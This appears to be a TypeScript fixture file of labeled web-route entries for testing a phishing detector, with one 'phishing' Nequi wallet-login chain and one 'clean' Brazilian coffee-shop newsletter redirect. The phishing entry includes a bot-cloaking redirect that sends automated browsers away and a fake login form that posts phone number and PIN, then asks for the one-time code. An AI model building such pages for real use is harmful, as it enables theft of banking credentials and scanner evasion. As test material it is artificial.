import type { Entry } from '../entry.js';
import { bot, doc, fileRoute, gtag, htmlRoute, jsonRoute, jsRoute, pe, redirectRoute, top } from '../parts/zn-kit.js';

export const entries: Entry[] = [
  {
    id: 'zn-phish-nequi-sms-shortlink-chain-co',
    label: 'phishing',
    kind: 'wallet-login',
    url: 'https://nq-co.link/r/a8Kx2',
    routes: {
      'nq-co.link/r/a8Kx2': redirectRoute(302, 'https://tracking-sms-col.site/c?u=nequi&k=a8Kx2'),
      'tracking-sms-col.site/c': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title>Cargando…</title><script>if(navigator.webdriver){location.replace('https://www.google.com/')}else{setTimeout(function(){location.replace('https://nequi-colombia.app-clientes.com/ingreso/')},400)}</script></head><body>Cargando…</body></html>`),
      'nequi-colombia.app-clientes.com/ingreso/': htmlRoute(
        doc({
          lang: 'es-CO',
          title: 'Nequi - Ingreso',
          c: '#200020',
          css: `.wrap{max-width:380px;margin:40px auto;text-align:center}.pink{color:#da0081}`,
          body: `<main><div class="wrap card"><h1 class="pink">Nequi</h1><p>Entra a tu Nequi para activar tu <b>Propulsor pre-aprobado de $3.800.000</b></p>
<form id="f"><label>Número de celular</label><input name="cel" inputmode="numeric" maxlength="10"><label>Clave (4 dígitos)</label><input name="clave" type="password" maxlength="4" inputmode="numeric">
<p><button class="btn" style="background:#da0081;width:100%">Entra</button></p></form><p class="muted">¿Se te olvidó la clave?</p></div></main>
<script>f.onsubmit=function(e){e.preventDefault();fetch('/ingreso/api/s1',{method:'POST',body:new FormData(f)}).then(function(){f.innerHTML='<label>Clave dinámica</label><input maxlength="6"><p class="muted">Ábrela en tu app Nequi</p><button class="btn" style="background:#da0081">Continuar</button>'})}</script>`,
        }),
      ),
      'nequi-colombia.app-clientes.com/ingreso/api/s1': jsonRoute({ ok: true }),
    },
  },
  {
    id: 'zn-clean-newsletter-click-tracker-shop-pt',
    label: 'clean',
    kind: 'benign-redirect',
    url: 'https://click.mail-cafedofazendeiro.com.br/ls/click?upn=zn-8813-q2',
    routes: {
      'click.mail-cafedofazendeiro.com.br/ls/click': redirectRoute(302, 'https://www.cafedofazendeiro.com.br/colecao/especiais?utm_source=newsletter&utm_medium=email&utm_campaign=outubro'),
      'www.cafedofazendeiro.com.br/colecao/especiais': htmlRoute(
        doc({
          lang: 'pt-BR',
          title: 'Cafés Especiais | Café do Fazendeiro — Sul de Minas',
          c: '#6b3e26',
          head: gtag('G-CAFEFAZ201'),
          body: `${top('Café do Fazendeiro', ['Cafés', 'Assinatura', 'Métodos', 'Nossa fazenda'])}
<main><div class="grid"><div class="card"><h3>Bourbon Amarelo 250g</h3><p>Notas de caramelo e laranja. 86 pontos SCA.</p><p><b>R$ 49,90</b></p><button class="btn">Adicionar</button></div><div class="card"><h3>Catuaí Vermelho 500g</h3><p>Chocolate ao leite, corpo médio.</p><p><b>R$ 72,00</b></p><button class="btn">Adicionar</button></div><div class="card"><h3>Assinatura mensal</h3><p>2 pacotes por mês com frete grátis.</p><p><b>R$ 89,90/mês</b></p><button class="btn">Assinar</button></div></div>
<p class="muted">Pagamento em Pix, boleto ou cartão em até 3x. Enviamos de Carmo de Minas/MG.</p></main>
${bot(['Café do Fazendeiro Comércio de Alimentos LTDA — CNPJ 22.345.678/0001-10'], ['Trocas', 'Privacidade', 'Contato'])}`,
        }),
      ),
    },
  },
];
